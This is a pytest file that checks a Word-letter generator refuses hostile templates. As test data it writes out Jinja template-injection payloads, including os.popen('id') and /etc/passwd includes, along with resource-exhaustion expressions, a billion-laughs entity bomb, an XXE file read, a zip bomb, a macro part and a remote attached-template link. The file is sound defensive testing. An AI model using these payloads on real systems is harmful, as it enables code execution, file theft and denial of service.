"""Templates that were made to do harm: refused in a sentence, quickly, before anything is opened, run or fetched."""

import io
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from test_letter_forms import draft, template

from fourpoint.documents.forms.docx_template import TemplateRefusedError
from fourpoint.documents.forms.template_language import LONGEST
from fourpoint.documents.letter.docx import letter_docx

ESCAPES = (
    "{{ council.__class__.__mro__[1].__subclasses__() }}",
    "{{ council['__class__'] }}",
    "{{ council|attr('__class__') }}",
    "{{ self.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'] }}",
    "{{ council.format.__globals__ }}",
    "{{ '{0.__class__}'.format(council) }}",
    "{{ '{0.__class__}'|format(council) }}",
    "{% import 'os' as os %}{{ os }}",
    "{% include '/etc/passwd' %}",
    "{% extends '/etc/passwd' %}",
    "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
    "{% set x = council %}{{ x }}",
    "{% with x = council %}{{ x }}{% endwith %}",
    "{% call council() %}{% endcall %}",
    "{% filter upper %}x{% endfilter %}",
)
EXHAUSTING = (
    "{% for i in range(99999) %}{% for j in range(99999) %}x{% endfor %}{% endfor %}",
    "{{ 'x' * 10000000000 }}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ 'x'|center(10000000000) }}",
    "{{ '%10000000000d'|format(1) }}",
    "{{ council|replace('', 'xxxxxxxxxxxx')|replace('', 'xxxxxxxxxxxx')|replace('', 'xxxxxxxxxx') }}",
    "{{ council|join('x')|join('xxxxxxxx')|join('xxxxxxxxxx') }}",
    "{{ council|indent(1000000000) }}",
    "{{ (1, 2)|batch(1000000000, 'x')|list }}",
    "{% for a in scale recursive %}{{ loop(scale) }}{% endfor %}",
    "".join("{% for x in scale %}" for _ in range(40)) + "x" + "".join("{% endfor %}" for _ in range(40)),
    "{{ 1 / 0 }}",
    "{{ council ~ council ~ council }}",
)


@pytest.mark.parametrize("asked", [*ESCAPES, *EXHAUSTING])
def test_what_asks_for_more_than_values_and_rows_is_refused(tmp_path: Path, asked: str) -> None:
    start = time.perf_counter()
    with pytest.raises(TemplateRefusedError, match=r"^own\.docx: the template"):
        letter_docx(*draft(), template(tmp_path, asked))
    assert time.perf_counter() - start < 10


def test_so_is_what_stands_in_a_header_or_among_the_properties(tmp_path: Path) -> None:
    for place in ("header", "title"):
        word = docx.Document()
        if place == "header":
            word.sections[0].header.paragraphs[0].text = "{{ lipsum.__globals__ }}"
        else:
            word.core_properties.title = "{{ lipsum.__globals__ }}"
        word.save(str(tmp_path / "own.docx"))
        with pytest.raises(TemplateRefusedError):
            letter_docx(*draft(), tmp_path / "own.docx")


def test_a_template_that_grows_without_end_stops_at_the_limit(tmp_path: Path) -> None:
    long = "y" * (LONGEST // 40)
    rows = "{% for a in scale %}{% for b in scale %}{% for c in scale %}" + long + "{% endfor %}" * 3
    with pytest.raises(TemplateRefusedError, match="longer than"):
        letter_docx(*draft(), template(tmp_path, rows))


def test_what_a_template_may_say_it_may_say(tmp_path: Path) -> None:
    asked = (
        "{% for one in scale %}{{ loop.index }} {{ one.word|upper }}"
        "{% if one.grade == 4 and not loop.last %} best{% elif one.grade in [1, 2] %} low{% else %} good{% endif %}; "
        "{% endfor %}{{ scale|length }} {{ (scale|first).word|default('none')|title|trim }}"
    )
    made = docx.Document(io.BytesIO(letter_docx(*draft(), template(tmp_path, asked))))
    assert "4 " in made.paragraphs[0].text
    assert "best" in made.paragraphs[0].text


def _add(path: Path, name: str, data: bytes) -> None:
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)


def _add_many(path: Path, many: int) -> None:
    with zipfile.ZipFile(path, "a") as archive:
        for number in range(many):
            archive.writestr(f"word/media/{number}", b"")


def _in_part(path: Path, name: str, change: Callable[[bytes], bytes]) -> None:
    with zipfile.ZipFile(path) as archive:
        parts = {one: archive.read(one) for one in archive.namelist()}
    parts[name] = change(parts[name])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for one, data in parts.items():
            archive.writestr(one, data)


_LAUGHS = b"<!DOCTYPE x [<!ENTITY a 'ha'>" + b"".join(
    b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10 if n > 1 else b"&a;" * 10) for n in range(1, 12)
)
_OUT = (
    b'<Relationship Id="rId99" TargetMode="External" Target="https://elsewhere.example/t.dotm" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)
_BODY, _RELS = "word/document.xml", "word/_rels/document.xml.rels"
HOSTILE: dict[str, tuple[Callable[[Path], None], str]] = {
    "a bomb": (lambda path: _add(path, "word/media/image1.png", bytes(70_000_000)), "unpacks to more than"),
    "a bomb of XML": (lambda path: _add(path, "word/more.xml", b" " * 25_000_000), "megabytes of XML"),
    "many parts": (lambda path: _add_many(path, 2_001), "2,000 parts"),
    "entities": (
        lambda path: _in_part(path, _BODY, lambda xml: xml.replace(b"<w:document", _LAUGHS + b"]><w:document", 1)),
        "declares XML entities",
    ),
    "entities in another encoding": (
        lambda path: _add(path, "word/more.xml", "<!DOCTYPE x [<!ENTITY a 'b'>]><x/>".encode("utf-16")),
        "declares XML entities",
    ),
    "a file of this machine": (
        lambda path: _in_part(
            path,
            _BODY,
            lambda xml: xml.replace(
                b"<w:document", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document'
            ),
        ),
        "declares XML entities",
    ),
    "macros": (lambda path: _add(path, "word/vbaProject.bin", b"x"), "holds macros"),
    "a template from elsewhere": (
        lambda path: _in_part(path, _RELS, lambda xml: xml.replace(b"</Relationships>", _OUT)),
        "fetched from elsewhere",
    ),
    "no XML": (lambda path: _in_part(path, _BODY, lambda _: b"<w:document"), "is not a Word file"),
    "another XML": (lambda path: _in_part(path, _BODY, lambda _: b"<x/>"), "is not a Word file"),
    "a part that is gone": (lambda path: _in_part(path, "[Content_Types].xml", lambda _: b""), "is not a Word file"),
    "cut short": (lambda path: path.write_bytes(path.read_bytes()[:900]) and None, "is not a Word file"),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_files_are_refused_before_they_are_opened(tmp_path: Path, kind: str) -> None:
    path = template(tmp_path, "{{ council }}")
    change, said = HOSTILE[kind]
    change(path)
    start = time.perf_counter()
    with pytest.raises(TemplateRefusedError, match=said):
        letter_docx(*draft(), path)
    assert time.perf_counter() - start < 10


def test_a_link_that_a_reader_may_follow_is_no_harm(tmp_path: Path) -> None:
    path = template(tmp_path, "{{ council }}")
    link = _OUT.replace(b"attachedTemplate", b"hyperlink")
    _in_part(path, _RELS, lambda xml: xml.replace(b"</Relationships>", link))
    assert letter_docx(*draft(), path)
